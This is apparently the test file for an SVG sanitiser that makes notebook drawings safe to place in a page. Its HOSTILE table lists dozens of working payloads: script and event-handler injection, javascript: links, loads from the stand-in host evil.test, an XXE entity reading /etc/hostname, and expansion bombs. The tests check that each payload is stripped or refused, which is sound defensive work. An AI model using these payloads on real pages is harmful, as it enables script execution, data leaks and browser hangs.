"""Drawings that cells make are harmless once they stand in a page."""

from __future__ import annotations

import base64
import html.parser
import os
import re
from html import escape
from xml.etree import ElementTree

import pytest

from handout.hosts.pdf import PdfError, find_chromium
from handout.render.outputs import picture
from handout.render.sanitise import DEEPEST, SvgError, sanitise, standing_alone

XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'


def _chain(element: str, naming: str, length: int) -> str:
    """A drawing in which each element draws the next one, as `naming` says, again and again."""
    parts = "".join(
        f'<{element} id="e{n}">{naming.replace("{}", f"e{n + 1}")}</{element}>'
        for n in range(length)
    )
    last = f'<{element} id="e{length}"><rect/></{element}>'
    return f"<svg>{parts}{last}{naming.replace('{}', 'e0')}</svg>"


# Each tries to run script, to reach another host, or to change the page around it. `hit()` and
# `evil` are what a check looks for afterwards.
HOSTILE = {
    "script": "<svg><script>hit()</script></svg>",
    "script-namespaced": '<svg xmlns:s="http://www.w3.org/2000/svg"><s:script>hit()</s:script></svg>',
    "script-cdata": "<svg><script><![CDATA[hit()]]></script></svg>",
    "script-href": '<svg><script href="https://evil.test/x.js"/></svg>',
    "script-xhtml": f"<svg {XHTML}><h:script>hit()</h:script></svg>",
    "script-in-group": "<svg><g><g><script>hit()</script></g></g></svg>",
    "script-in-title": "<svg><title><script>hit()</script></title></svg>",
    "script-in-link": "<svg><a><script>hit()</script></a></svg>",
    "onload": '<svg onload="hit()"/>',
    "onload-inner": '<svg><g onload="hit()"/></svg>',
    "onbegin": '<svg><animate onbegin="hit()" attributeName="x" dur="1s"/></svg>',
    "onfocus": '<svg><g tabindex="0" autofocus="" onfocus="hit()"/></svg>',
    "onclick": '<svg><rect onclick="hit()" width="9" height="9"/></svg>',
    "onmouseover-case": '<svg><rect ONMOUSEOVER="hit()"/></svg>',
    "foreign-object": f'<svg {XHTML}><foreignObject><h:b onclick="hit()"/></foreignObject></svg>',
    "foreign-bare": '<svg><foreignObject><img src="x" onerror="hit()"/></foreignObject></svg>',
    "html-breakout": '<svg><img src="x" onerror="hit()"/></svg>',
    "html-breakout-p": "<svg><p><script>hit()</script></p></svg>",
    "html-in-desc": '<svg><desc><img src="x" onerror="hit()"/></desc></svg>',
    "text-as-markup": "<svg><title>&lt;img src=x onerror=hit()&gt;</title></svg>",
    "cdata-as-markup": "<svg><desc><![CDATA[<img src=x onerror=hit()>]]></desc></svg>",
    "cdata-style": "<svg><style><![CDATA[</style><img src=x onerror=hit()>]]></style></svg>",
    "attribute-quote": """<svg><g aria-label='"&gt;&lt;img src=x onerror=hit()&gt;'/></svg>""",
    "math-mutation": "<svg><math><mtext><script>hit()</script></mtext></math></svg>",
    "comment": "<svg><!-- --><script>hit()</script><!-- --></svg>",
    "processing": '<?xml-stylesheet href="https://evil.test/x.css"?><svg/>',
    "link-javascript": '<svg><a href="javascript:hit()"><text>x</text></a></svg>',
    "link-xlink": f'<svg {XLINK}><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
    "link-entities": '<svg><a href="java&#115;cript&#58;hit()"><text>x</text></a></svg>',
    "link-tabs": '<svg><a href="java&#9;script:hit()"><text>x</text></a></svg>',
    "set-href": '<svg><a><set attributeName="href" to="javascript:hit()"/><text>x</text></a></svg>',
    "animate": '<svg><a><animate attributeName="href" values="javascript:hit()"/></a></svg>',
    "use-remote": '<svg><use href="https://evil.test/x.svg#a"/></svg>',
    "use-data": f'<svg {XLINK}><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/></svg>',
    "use-script-address": '<svg><use href="javascript:hit()"/></svg>',
    "image-remote": '<svg><image href="https://evil.test/x.png" width="9" height="9"/></svg>',
    "image-schemeless": '<svg><image href="//evil.test/x.png" width="9" height="9"/></svg>',
    "image-relative": '<svg><image href="../evil.png" width="9" height="9"/></svg>',
    "image-svg": '<svg><image href="data:image/svg+xml,&lt;svg onload=hit()/&gt;"/></svg>',
    "image-html": '<svg><image href="data:text/html,&lt;script&gt;hit()&lt;/script&gt;"/></svg>',
    "fe-image": '<svg><filter><feImage href="https://evil.test/x.png"/></filter></svg>',
    "style-import": "<svg><style>@import 'https://evil.test/x.css';</style></svg>",
    "style-page": "<svg><style>body { background: url(https://evil.test/x) }</style></svg>",
    "style-url": '<svg><g style="fill: url(https://evil.test/x#a)"/></svg>',
    "style-url-quoted": """<svg><g style="fill: url('https://evil.test/x#a')"/></svg>""",
    "style-url-escaped": r'<svg><g style="fill: u\72l(https://evil.test/x#a)"/></svg>',
    "style-url-comment": '<svg><g style="fill: url/**/(https://evil.test/x)"/></svg>',
    "style-url-case": '<svg><g style="fill: URL(//evil.test/x#a)"/></svg>',
    "style-background": '<svg><g style="background-image: url(https://evil.test/x)"/></svg>',
    "style-position": '<svg style="position: fixed; inset: 0; content: evil"/>',
    "style-two-urls": '<svg><g style="fill: url(#a) url(https://evil.test/x)"/></svg>',
    "fill-url": '<svg><rect fill="url(https://evil.test/x.svg#a)"/></svg>',
    "fill-image-set": "<svg><rect fill=\"image-set('https://evil.test/x' 1x)\"/></svg>",
    "fill-url-near": '<svg><rect fill="url(evil.svg)"/></svg>',
    "fill-image-near": "<svg><rect fill=\"image-set('evil.png' 1x)\"/></svg>",
    "fill-colon": '<svg><rect fill="evil:red"/></svg>',
    "mask-url": '<svg><rect mask="url(//evil.test/x#a)"/></svg>',
    "filter-attribute": '<svg><rect filter="url(https://evil.test/x#a)"/></svg>',
    "base": '<svg xml:base="https://evil.test/"><use href="#a"/></svg>',
    "handler": '<svg><handler type="text/javascript">hit()</handler></svg>',
    "html-of-a-drawing-s-name": f'<svg {XHTML}><h:image href="#evil"/></svg>',
    "shape-in-title": '<svg><title><image href="#evil"/></title></svg>',
    "iframe": f'<svg {XHTML}><h:iframe src="https://evil.test/"/></svg>',
    "form": f'<svg {XHTML}><h:form action="https://evil.test/"><h:input/></h:form></svg>',
    "meta": f'<svg {XHTML}><h:meta http-equiv="refresh" content="0;https://evil.test"/></svg>',
    "page-class": '<svg class="md-overlay evil"><text class="evil">x</text></svg>',
    "clobber": '<svg><g id="__md_search"/><text id="location">x</text></svg>',
    "entity": '<!DOCTYPE svg [<!ENTITY e "evil">]><svg><text>&e;</text></svg>',
    "entity-bomb": '<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>',
    "entity-file": '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/hostname">]><svg>&e;</svg>',
    "entity-undeclared": '<!DOCTYPE svg SYSTEM "//evil.test/x.dtd"><svg><text>&e;</text></svg>',
    "use-bomb": _chain("g", '<use href="#{}"/>' * 90, 4),
    "marker-bomb": _chain("marker", '<path d="M0 0 1 1 2 2" marker-mid="url(#{})"/>', 9),
    "marker-many": _chain(
        "marker", '<path d="M' + "1 " * 999 + '" style="marker-mid:url(#{})"/>', 3
    ),
    "pattern-bomb": _chain("pattern", '<rect fill="url(#{})"/>' * 3, 9),
    "mask-bomb": _chain("mask", '<rect mask="url(#{})"/>' * 4, 9),
    "mask-many": _chain("mask", '<rect mask="url(#{})"/>' * 9, 4),
    "clip-bomb": _chain("clipPath", '<rect clip-path="url(#{})"/>' * 2, 9),
    "style-bomb": _chain("mask", '<rect style="fill:red;mask:url(#{})"/>' * 2, 9),
    "use-loop": '<svg><g id="a"><use href="#a"/></g></svg>',
    "deep": "<svg>" + "<g>" * 600 + "</g>" * 600 + "</svg>",
    "not-svg": f"<h:html {XHTML}><svg/></h:html>",
    "html-root": "<html><script>hit()</script></html>",
    "tag-soup": "<svg><rect><script>hit()</svg>",
    "two-roots": "<svg/><script>hit()</script>",
    "surrogate": "<svg><text>\ud800</text></svg>",
}
REFUSED = {
    "entity": "declares entities",
    "entity-bomb": "declares entities",
    "entity-file": "declares entities",
    "entity-undeclared": "undeclared entity &e;",
    "use-bomb": "draws more than 200,000 elements by repeating some",
    "marker-bomb": "repeats elements that repeat others, more than 4 deep",
    "marker-many": "draws more than 200,000 elements by repeating some",
    "pattern-bomb": "more than 4 deep",
    "mask-bomb": "more than 4 deep",
    "mask-many": "draws more than 200,000",
    "clip-bomb": "more than 4 deep",
    "style-bomb": "more than 4 deep",
    "use-loop": "more than 4 deep",
    "deep": f"more than {DEEPEST} elements",
    "not-svg": "<html>, not an <svg>",
    "html-root": "<html>, not an <svg>",
    "tag-soup": "not well-formed",
    "two-roots": "not well-formed",
    "surrogate": "not well-formed",
}
HARMLESS_ELEMENTS = {"svg", "g", "use", "rect", "text", "title", "desc", "image"}


class Audit(html.parser.HTMLParser):
    """Reads markup as HTML, which is how a browser will, and keeps its tags and attributes."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def shown(svg: str) -> str:
    """What a page would show of a drawing: nothing if it is refused."""
    try:
        return sanitise(svg, "f-")
    except SvgError:
        return ""


@pytest.mark.parametrize("name", sorted(HOSTILE.keys() - REFUSED.keys()))
def test_what_could_act_is_left_out(name: str) -> None:
    """Nothing but listed elements survives, and no attribute that reaches outside the figure."""
    audit = Audit(shown(HOSTILE[name]))
    assert "svg" in audit.tags
    assert audit.tags <= HARMLESS_ELEMENTS
    for attribute, value in audit.attributes:
        assert not attribute.startswith("on")
        assert attribute not in {"style", "class", "src", "action", "xml:base"}
        assert attribute != "href" or value.startswith("#f-")
        assert attribute != "id" or value.startswith("f-")
        assert "evil" not in value
        assert "url" not in value
    assert not {"image"} & audit.tags or name.startswith("image-")


@pytest.mark.parametrize(("name", "reason"), REFUSED.items())
def test_what_cannot_be_mended_is_refused_with_a_reason(name: str, reason: str) -> None:
    """The message says what is wrong with the drawing."""
    with pytest.raises(SvgError) as caught:
        sanitise(HOSTILE[name], "f-")
    assert reason in str(caught.value)


@pytest.mark.parametrize(("name", "reason"), REFUSED.items())
def test_what_is_refused_is_shown_in_no_form(name: str, reason: str) -> None:
    """An image runs no script, and still stops the browser that has to draw it."""
    html = picture("image/svg+xml", HOSTILE[name])
    assert html.startswith('<p class="cell-note" role="note">A drawing is not shown: ')
    assert escape(reason) in html
    assert "<img" not in html


def test_a_large_drawing_is_an_image() -> None:
    """Made safe like any other, and a file of its own, which a browser can read."""
    points = " ".join(f"{n},{n % 99}" for n in range(150_000))
    svg = f'<svg viewBox="0 0 9 9"><polyline points="{points}" onclick="hit()"/></svg>'
    html = picture("image/svg+xml", svg, "A title")
    assert html.startswith('<img class="cell-picture" src="data:image/svg+xml;base64,')
    assert 'alt="A title"' in html
    inside = base64.b64decode(html.split("base64,")[1].split('"')[0]).decode()
    assert "hit" not in inside
    assert ElementTree.fromstring(inside).tag == "{http://www.w3.org/2000/svg}svg"


def test_a_drawing_that_stands_alone_keeps_its_links() -> None:
    """Also those that repeat an element."""
    safe = sanitise('<svg><g id="a"><rect/></g><use href="#a"/></svg>', "f-")
    root = ElementTree.fromstring(standing_alone(safe))
    assert [e.get("{http://www.w3.org/1999/xlink}href") for e in root][-1] == "#f-a"


@pytest.mark.browser
def test_nothing_runs_and_nothing_is_asked_for_in_a_browser(
    request: pytest.FixtureRequest,
) -> None:
    """In Chromium the drawings as they come do harm, which shows that this would be noticed; once
    sanitised they run nothing and ask for nothing."""
    try:
        executable = find_chromium()
    except PdfError:
        if os.environ.get("CI"):
            pytest.fail("no Chromium on the PATH; CI must have one")
        pytest.skip("no Chromium on the PATH: what sanitised drawings do in a browser is untested")
    page_start = "<!doctype html><meta charset=utf-8><script>hits = 0; hit = () => hits++</script>"
    hanging = ("deep", "surrogate", "-bomb", "-many")  # these would stop the browser
    valid = [svg for name, svg in HOSTILE.items() if not name.endswith(hanging)]
    browser = request.getfixturevalue("playwright").chromium.launch(executable_path=executable)
    try:
        seen = {}
        for kind, drawings in (("raw", valid), ("safe", [shown(svg) for svg in valid])):
            page = browser.new_page()
            asked: list[str] = []
            page.on("request", lambda request, asked=asked: asked.append(request.url))
            page.route("**/*", lambda route: route.abort())
            page.set_content(page_start + "".join(drawings), wait_until="load")
            seen[kind] = (page.evaluate("hits"), [a for a in asked if "evil" in a])
            page.close()
    finally:
        browser.close()
    assert seen["raw"][0] > 5
    assert len(seen["raw"][1]) > 2
    assert seen["safe"] == (0, [])


def test_a_drawing_keeps_its_look() -> None:
    """Shapes, gradients, text and the page's own colours stay."""
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" aria-label="A &amp; B">'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="currentColor"/></linearGradient>'
        '<path id="m" d="M0 0L1e-3 -2"/></defs>'
        '<g tabindex="0" style="fill: var(--md-accent-fg-color); stroke: #1f77b4">'
        '<rect fill="url(#g)" width="3" height="3"/><text x="1">a &lt; <tspan>b</tspan></text></g>'
        '<use href="#m" transform="translate(1 2) rotate(-90)"/></svg>'
    )
    safe = sanitise(svg, "f-")
    assert '<stop offset="0" stop-color="currentColor">' in safe
    assert 'fill="url(#f-g)"' in safe
    assert 'style="fill:var(--md-accent-fg-color);stroke:#1f77b4"' in safe
    assert '<g tabindex="0"' in safe
    assert '<use xlink:href="#f-m" transform="translate(1 2) rotate(-90)">' in safe
    assert '<path id="f-m" d="M0 0L1e-3 -2">' in safe
    assert '<text x="1">a &lt; <tspan>b</tspan></text>' in safe
    assert 'aria-label="A &amp; B"' in safe


def test_what_is_repeated_within_reason_stays() -> None:
    """A hatched bar in a clipped plot, a marker at every point of a line, a symbol used twice."""
    points = " ".join(f"{n} {n}" for n in range(2000))
    svg = (
        '<svg><defs><clipPath id="c"><rect/></clipPath><g id="m"><path d="M0 0"/></g>'
        '<marker id="k"><use href="#m"/></marker>'
        '<pattern id="h"><g clip-path="url(#c)"><use href="#m"/></g></pattern></defs>'
        f'<g clip-path="url(#c)"><rect fill="url(#h)"/><use href="#m"/><use href="#m"/>'
        f'<polyline points="{points}" marker-mid="url(#k)"/></g></svg>'
    )
    assert "<polyline" in sanitise(svg, "f-")


@pytest.mark.parametrize(
    "root",
    [
        'transform="scale(99)"', 'style="transform:translate(-50%, 0);fill:red"', 'x="-900"',
        'style="visibility:hidden;transform-origin:0 0;fill:red"', 'display="none"',
    ],
)  # fmt: skip
def test_a_drawing_stays_in_its_place(root: str) -> None:
    """Its root neither moves nor hides; what is inside is clipped to it, as browsers do."""
    safe = sanitise(f"<svg {root}><g transform='scale(2)'/></svg>", "f-")
    opening, _, inside = safe.partition(">")
    assert not re.search("transform|visibility|display| x=", opening)
    assert ("fill:red" in opening) == ("fill" in root)
    assert "scale(2)" in inside


def test_a_bitmap_inside_a_drawing_stays() -> None:
    """Matplotlib draws images as embedded PNG."""
    href = "data:image/png;base64,iVBORw0KGgo="
    assert f'href="{href}"' in sanitise(
        f'<svg {XLINK}><image xlink:href="{href}" width="1" height="1"/></svg>', "f-"
    )


def test_a_link_goes_and_its_text_stays() -> None:
    """Drawings of other tools link their nodes; the page shows the nodes."""
    safe = sanitise('<svg><a href="https://evil.test"><text>node</text></a></svg>', "f-")
    assert "<text>node</text>" in safe
    assert "<a" not in safe


@pytest.mark.parametrize(
    ("svg", "label"),
    [
        ("<svg/>", 'aria-label="Loss falls"'),
        ('<svg aria-label="Own words"/>', 'aria-label="Own words"'),
        ("<svg><title>Own words</title></svg>", "<title>Own words</title>"),
    ],
)
def test_every_figure_says_what_it_shows(svg: str, label: str) -> None:
    """Its own words come first; a figure without any is named by its caller."""
    safe = sanitise(svg, "f-", "Loss falls")
    assert 'role="img"' in safe
    assert label in safe
    assert ("Loss falls" in safe) == ("Own" not in svg)
